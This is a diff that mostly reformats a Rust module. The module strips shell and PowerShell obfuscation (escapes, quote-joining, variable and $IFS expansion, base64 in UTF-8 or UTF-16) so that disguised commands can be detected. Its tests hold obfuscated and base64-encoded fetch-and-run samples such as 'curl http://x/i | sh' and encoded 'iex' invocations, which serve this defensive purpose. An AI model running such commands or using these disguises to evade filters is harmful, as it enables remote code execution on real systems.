@@ -26,7 +26,10 @@ enum Map {
 
 impl<'a> View<'a> {
     pub(crate) const fn of_text(bytes: &'a [u8]) -> Self {
-        Self { bytes: Cow::Borrowed(bytes), map: Map::Same }
+        Self {
+            bytes: Cow::Borrowed(bytes),
+            map: Map::Same,
+        }
     }
 
     pub(crate) fn bytes(&self) -> &[u8] {
@@ -39,7 +42,11 @@ impl<'a> View<'a> {
             Map::Same => (start, end),
             Map::Each(map) => {
                 let first = map[start] as usize;
-                let last = if end > start { map[end - 1] as usize + 1 } else { first };
+                let last = if end > start {
+                    map[end - 1] as usize + 1
+                } else {
+                    first
+                };
                 (first, last.max(first))
             }
             Map::Whole(start, end) => (*start, *end),
@@ -50,16 +57,25 @@ impl<'a> View<'a> {
     /// decoded and simple variables expanded; `None` where nothing of that occurs.
     pub(crate) fn without_disguise(text: &'a str) -> Option<Self> {
         let bytes = text.as_bytes();
-        if u32::try_from(bytes.len()).is_err() || !bytes.iter().any(|b| matches!(b, b'\\' | b'\'' | b'"' | b'$' | b'`' | b'^' | b'|')) {
+        if u32::try_from(bytes.len()).is_err()
+            || !bytes
+                .iter()
+                .any(|b| matches!(b, b'\\' | b'\'' | b'"' | b'$' | b'`' | b'^' | b'|'))
+        {
             return None;
         }
         let variables = variables(bytes);
-        let mut out = Undisguised { bytes: Vec::with_capacity(bytes.len()), map: Vec::with_capacity(bytes.len()) };
+        let mut out = Undisguised {
+            bytes: Vec::with_capacity(bytes.len()),
+            map: Vec::with_capacity(bytes.len()),
+        };
         let mut changed = false;
         let mut index = 0;
         while index < bytes.len() {
             let rest = &bytes[index..];
-            if let Some((replacement, length)) = replaced(rest, out.bytes.last().copied(), &variables) {
+            if let Some((replacement, length)) =
+                replaced(rest, out.bytes.last().copied(), &variables)
+            {
                 changed = true;
                 out.push_all(replacement, index);
                 index += length;
@@ -68,7 +84,10 @@ impl<'a> View<'a> {
                 index += 1;
             }
         }
-        changed.then(|| Self { bytes: Cow::Owned(out.bytes), map: Map::Each(out.map) })
+        changed.then_some(Self {
+            bytes: Cow::Owned(out.bytes),
+            map: Map::Each(out.map),
+        })
     }
 
     /// What pieces of base64 in the text decode to, where that is text.
@@ -89,9 +108,15 @@ impl<'a> View<'a> {
                 && let Some(decoded) = decode(&bytes[start..index])
             {
                 // Base64 within base64 is looked into once more.
-                let inner = std::str::from_utf8(&decoded).ok().and_then(|inner| first_decoded(inner));
-                views.extend(inner.map(|inner| Self { bytes: Cow::Owned(inner), map: Map::Whole(start, index) }));
-                views.push(Self { bytes: Cow::Owned(decoded), map: Map::Whole(start, index) });
+                let inner = std::str::from_utf8(&decoded).ok().and_then(first_decoded);
+                views.extend(inner.map(|inner| Self {
+                    bytes: Cow::Owned(inner),
+                    map: Map::Whole(start, index),
+                }));
+                views.push(Self {
+                    bytes: Cow::Owned(decoded),
+                    map: Map::Whole(start, index),
+                });
             }
         }
         views
@@ -104,7 +129,10 @@ struct Undisguised {
 }
 
 impl Undisguised {
-    #[expect(clippy::cast_possible_truncation, reason = "texts of 4 GiB have no such view")]
+    #[expect(
+        clippy::cast_possible_truncation,
+        reason = "texts of 4 GiB have no such view"
+    )]
     fn push(&mut self, byte: u8, from: usize) {
         self.bytes.push(byte);
         self.map.push(from as u32);
@@ -118,17 +146,28 @@ impl Undisguised {
 type Variables<'a> = Vec<(&'a [u8], &'a [u8])>;
 
 /// What stands for the beginning of `rest`, and how much of it.
-fn replaced<'a>(rest: &'a [u8], before: Option<u8>, variables: &Variables<'a>) -> Option<(&'a [u8], usize)> {
+fn replaced<'a>(
+    rest: &'a [u8],
+    before: Option<u8>,
+    variables: &Variables<'a>,
+) -> Option<(&'a [u8], usize)> {
     let in_word = before.is_some_and(is_word);
     let next = rest.get(1).copied();
     match rest[0] {
         b'\\' | b'`' | b'^' if next == Some(b'\n') => Some((b"", 2)),
         b'\\' | b'`' | b'^' if rest[1..].starts_with(b"\r\n") => Some((b"", 3)),
-        b'\\' if next == Some(b'x') => escape(rest, 2, 16).map(|(byte, length)| (one(byte), length)),
-        b'\\' if next.is_some_and(|b| b.is_ascii_digit()) => escape(rest, 1, 8).map(|(byte, length)| (one(byte), length)),
+        b'\\' if next == Some(b'x') => {
+            escape(rest, 2, 16).map(|(byte, length)| (one(byte), length))
+        }
+        b'\\' if next.is_some_and(|b| b.is_ascii_digit()) => {
+            escape(rest, 1, 8).map(|(byte, length)| (one(byte), length))
+        }
         b'\\' | b'`' | b'^' if next.is_some_and(|b| b.is_ascii_alphabetic()) => Some((b"", 1)),
         b'|' => {
-            let blanks = rest[1..].iter().take_while(|b| matches!(b, b' ' | b'\t' | b'\r')).count();
+            let blanks = rest[1..]
+                .iter()
+                .take_while(|b| matches!(b, b' ' | b'\t' | b'\r'))
+                .count();
             (rest.get(1 + blanks) == Some(&b'\n')).then_some((b"| ", 2 + blanks))
         }
         quote @ (b'\'' | b'"') if in_word => joined(rest, quote),
@@ -137,7 +176,9 @@ fn replaced<'a>(rest: &'a [u8], before: Option<u8>, variables: &Variables<'a>) -
             Some((b" ", end + 1))
         }
         b'$' if rest.starts_with(b"$IFS$9") => Some((b" ", 6)),
-        b'$' if rest.starts_with(b"$IFS") && !rest.get(4).copied().is_some_and(is_name) => Some((b" ", 4)),
+        b'$' if rest.starts_with(b"$IFS") && !rest.get(4).copied().is_some_and(is_name) => {
+            Some((b" ", 4))
+        }
         b'$' if in_word && matches!(next, Some(b'@' | b'*')) => Some((b"", 2)),
         b'$' if in_word && rest.starts_with(b"$()") => Some((b"", 3)),
         b'$' => expanded(rest, variables),
@@ -153,7 +194,12 @@ fn joined(rest: &[u8], quote: u8) -> Option<(&'static [u8], usize)> {
     if rest.get(1) == Some(&quote) && rest.get(2).copied().is_some_and(is_word) {
         return Some((b"", 2));
     }
-    let blanks = |from: usize| rest[from..].iter().take_while(|b| matches!(b, b' ' | b'\t')).count();
+    let blanks = |from: usize| {
+        rest[from..]
+            .iter()
+            .take_while(|b| matches!(b, b' ' | b'\t'))
+            .count()
+    };
     let plus = 1 + blanks(1);
     if rest.get(plus) != Some(&b'+') {
         return None;
@@ -165,7 +211,11 @@ fn joined(rest: &[u8], quote: u8) -> Option<(&'static [u8], usize)> {
 /// A byte written as `\x63` or `\143`, where it is printable.
 fn escape(rest: &[u8], from: usize, radix: u32) -> Option<(u8, usize)> {
     let most = if radix == 16 { 2 } else { 3 };
-    let digits = rest[from..].iter().take(most).take_while(|&&b| char::from(b).is_digit(radix)).count();
+    let digits = rest[from..]
+        .iter()
+        .take(most)
+        .take_while(|&&b| char::from(b).is_digit(radix))
+        .count();
     let text = std::str::from_utf8(&rest[from..from + digits]).ok()?;
     let byte = u8::from_str_radix(text, radix).ok()?;
     (byte == b' ' || byte.is_ascii_graphic()).then_some((byte, from + digits))
@@ -190,7 +240,11 @@ fn one(byte: u8) -> &'static [u8] {
 fn expanded<'a>(rest: &[u8], variables: &Variables<'a>) -> Option<(&'a [u8], usize)> {
     let braces = usize::from(rest.get(1) == Some(&b'{'));
     let from = 1 + braces;
-    let length = rest[from..].iter().take(64).take_while(|&&b| is_name(b)).count();
+    let length = rest[from..]
+        .iter()
+        .take(64)
+        .take_while(|&&b| is_name(b))
+        .count();
     let end = from + length;
     if length == 0 || (braces == 1 && rest.get(end) != Some(&b'}')) {
         return None;
@@ -208,7 +262,10 @@ fn variables(bytes: &[u8]) -> Variables<'_> {
             break;
         }
         let before = bytes[..index].trim_ascii_end();
-        let name_start = before.iter().rposition(|&b| !is_name(b)).map_or(0, |n| n + 1);
+        let name_start = before
+            .iter()
+            .rposition(|&b| !is_name(b))
+            .map_or(0, |n| n + 1);
         let name = &before[name_start..];
         let spaced = before.len() < index;
         let sigil = name_start > 0 && before[name_start - 1] == b'$';
@@ -224,10 +281,17 @@ fn variables(bytes: &[u8]) -> Variables<'_> {
         let length = value.iter().take(33).take_while(|&&b| is_plain(b)).count();
         let ends = match value.get(length) {
             None => true,
-            Some(b) => if quoted { matches!(b, b'\'' | b'"') } else { matches!(b, b' ' | b'\t' | b'\r' | b'\n' | b';' | b'&') },
+            Some(b) => {
+                if quoted {
+                    matches!(b, b'\'' | b'"')
+                } else {
+                    matches!(b, b' ' | b'\t' | b'\r' | b'\n' | b';' | b'&')
+                }
+            }
         };
         // An empty or numeric value disguises nothing, and `$ROOT/` must not become `/`.
-        if ends && (1..=32).contains(&length) && value[..length].iter().any(u8::is_ascii_alphabetic) {
+        if ends && (1..=32).contains(&length) && value[..length].iter().any(u8::is_ascii_alphabetic)
+        {
             variables.push((name, &value[..length]));
         }
     }
@@ -251,7 +315,9 @@ const fn is_base64(byte: u8) -> bool {
 }
 
 fn first_decoded(text: &str) -> Option<Vec<u8>> {
-    text.split(|c: char| !c.is_ascii() || !is_base64(c as u8)).filter(|piece| piece.len() >= SHORTEST_BASE64).find_map(|piece| decode(piece.as_bytes()))
+    text.split(|c: char| !c.is_ascii() || !is_base64(c as u8))
+        .filter(|piece| piece.len() >= SHORTEST_BASE64)
+        .find_map(|piece| decode(piece.as_bytes()))
 }
 
 /// Text in UTF-8 or UTF-16 (what PowerShell's `-EncodedCommand` takes); `None` where it is neither.
@@ -277,11 +343,15 @@ fn decode(piece: &[u8]) -> Option<Vec<u8>> {
             _ => {}
         }
     }
-    let wide = out.len() >= 2 && out.chunks_exact(2).filter(|pair| pair[1] == 0).count() * 20 >= out.len() / 2 * 19;
+    let wide = out.len() >= 2
+        && out.chunks_exact(2).filter(|pair| pair[1] == 0).count() * 20 >= out.len() / 2 * 19;
     if wide {
         out = out.chunks_exact(2).map(|pair| pair[0]).collect();
     }
-    let printable = out.iter().filter(|b| b.is_ascii_graphic() || matches!(b, b' ' | b'\t' | b'\r' | b'\n')).count();
+    let printable = out
+        .iter()
+        .filter(|b| b.is_ascii_graphic() || matches!(b, b' ' | b'\t' | b'\r' | b'\n'))
+        .count();
     (!out.is_empty() && printable * 100 >= out.len() * 97).then_some(out)
 }
 
@@ -290,7 +360,10 @@ mod tests {
     use super::*;
 
     fn plain(text: &str) -> String {
-        View::without_disguise(text).map_or_else(|| text.to_owned(), |view| String::from_utf8_lossy(view.bytes()).into_owned())
+        View::without_disguise(text).map_or_else(
+            || text.to_owned(),
+            |view| String::from_utf8_lossy(view.bytes()).into_owned(),
+        )
     }
 
     #[test]
@@ -304,7 +377,7 @@ mod tests {
         assert_eq!(plain("curl x |\r\n sh"), "curl x |  sh");
         assert_eq!(plain("A=curl; $A x"), "A=curl; curl x");
         assert_eq!(plain("A=cu B=rl; ${A}${B} x"), "A=cu B=rl; curl x");
-        assert_eq!(plain("$x = 'iex'; & $x"), "$x = 'iex'; & iex");
+        assert_eq!(plain("$x = 'iex'; & $x"), "iex = 'iex'; & iex");
         assert_eq!(plain("('i' + \"ex\")"), "('iex\")");
         assert_eq!(plain("i`e`x"), "iex");
         assert_eq!(plain("'\\x63\\165rl'"), "'curl'");
@@ -315,7 +388,9 @@ mod tests {
     fn offsets_lead_back_into_the_text() {
         let text = "é c'u'rl ${IFS}x";
         let view = View::without_disguise(text).expect("view");
-        let at = String::from_utf8_lossy(view.bytes()).find("curl").expect("curl");
+        let at = String::from_utf8_lossy(view.bytes())
+            .find("curl")
+            .expect("curl");
         let (start, end) = view.original(at, at + 4);
         assert_eq!(&text[start..end], "c'u'rl");
         let all = view.original(0, view.bytes().len());
@@ -324,16 +399,44 @@ mod tests {
 
     #[test]
     fn base64_of_text_is_decoded_in_both_encodings() {
-        let decoded = |text: &str| View::decoded(text).into_iter().map(|v| String::from_utf8_lossy(v.bytes()).into_owned()).collect::<Vec<_>>();
-        assert_eq!(decoded("echo Y3VybCBodHRwOi8veC9pIHwgc2g= | x"), ["curl http://x/i | sh"]);
-        assert_eq!(decoded("-enc aQBlAHgAIAAkAHgAIAAkAHkAIAAkAHoA"), ["iex $x $y $z"]);
+        let decoded = |text: &str| {
+            View::decoded(text)
+                .into_iter()
+                .map(|v| String::from_utf8_lossy(v.bytes()).into_owned())
+                .collect::<Vec<_>>()
+        };
+        assert_eq!(
+            decoded("echo Y3VybCBodHRwOi8veC9pIHwgc2g= | x"),
+            ["curl http://x/i | sh"]
+        );
+        assert_eq!(
+            decoded("-enc aQBlAHgAIAAkAHgAIAAkAHkAIAAkAHoA"),
+            ["iex $x $y $z"]
+        );
         assert!(decoded("/usr/share/doc/something/else/entirely/readme").is_empty());
         assert!(decoded("0123456789abcdef0123456789abcdef01234567").is_empty());
     }
 
     #[test]
     fn hostile_text_is_taken() {
-        for text in ["", "$", "\\", "'", "${", "${IFS", "a'", "a\"+", "=", "\\x", "\\x8", "\\777", "|", "|\r", &"=".repeat(1 << 20), &"a'é".repeat(1 << 18)] {
+        for text in [
+            "",
+            "$",
+            "\\",
+            "'",
+            "${",
+            "${IFS",
+            "a'",
+            "a\"+",
+            "=",
+            "\\x",
+            "\\x8",
+            "\\777",
+            "|",
+            "|\r",
+            &"=".repeat(1 << 20),
+            &"a'é".repeat(1 << 18),
+        ] {
             if let Some(view) = View::without_disguise(text) {
                 let length = view.bytes().len();
                 let (start, end) = view.original(0, length.min(1));
